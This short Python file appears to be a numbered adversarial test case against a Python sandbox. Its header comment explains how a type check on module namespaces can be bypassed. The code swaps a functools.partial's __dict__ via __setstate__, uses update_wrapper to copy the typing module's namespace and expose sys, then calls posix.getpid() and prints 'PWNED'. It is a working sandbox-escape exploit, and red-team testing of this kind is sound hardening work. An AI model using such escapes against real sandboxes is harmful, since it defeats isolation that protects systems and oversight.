# adversary round 8: 033: check_value's module-namespace test uses `type(m) is module_type`, so an allowed module (a GuardedModule) is not recognised: functools.update_wrapper(p, typing) lets the library's getattr(typing,'__dict__') through and copies the namespace into p.__dict__ -- a dict of ours installed with partial.__setstate__ -> ['sys']
import functools
import typing


def f():
    pass


d = {}
p = functools.partial(f)
p.__setstate__((f, (), {}, d))
functools.update_wrapper(p, typing)
s = d['sys']
print(len(d), s, s.modules['posix'].getpid())
print('PWN' + 'ED')
